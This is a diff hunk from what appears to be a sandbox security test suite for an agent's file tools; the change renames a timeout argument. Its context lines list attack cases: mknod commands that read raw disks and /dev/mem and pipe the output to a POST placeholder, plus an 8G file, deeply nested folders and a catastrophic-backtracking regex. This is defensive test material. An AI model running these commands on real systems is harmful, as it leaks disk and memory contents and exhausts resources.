@@ -115,7 +115,7 @@ DEVICES = (
     Attack("device-made", ("R-29", "R-33"), "output", (sh(f"for n in 8,0 253,0 254,0 259,0; do mknod %here%/b$n b ${{n%,*}} ${{n#*,}}; dd if=%here%/b$n bs=1M count=8 | {POST}; done; mknod %here%/m c 1 1; cat %here%/m | head -c 9999 | {POST}"), read("%here%/m"))),
     Attack("huge-file", ("R-54",), "file", (sh("truncate -s 8G %here%/huge; echo end >> %here%/huge"), read("%here%/huge"), call("content_search", pattern="end", path="%here%"))),
     Attack("deep-folders", ("R-54",), "file", (sh("cd %here%; for i in $(seq 120); do mkdir -p dddddddddd && cd dddddddddd; done; echo x > y"), call("glob_search", pattern="**/y", path="%here%"))),
-    Attack("slow-pattern", ("R-54",), "file", (sh("python3 -c 'print(\"a\"*40)' > %here%/a"), call("content_search", pattern="(a+)+$x", regex=True, path="%here%", timeout_s=1))),
+    Attack("slow-pattern", ("R-54",), "file", (sh("python3 -c 'print(\"a\"*40)' > %here%/a"), call("content_search", pattern="(a+)+$x", regex=True, path="%here%", timeout=1))),
 )  # fmt: skip
 
 TARGETS = {
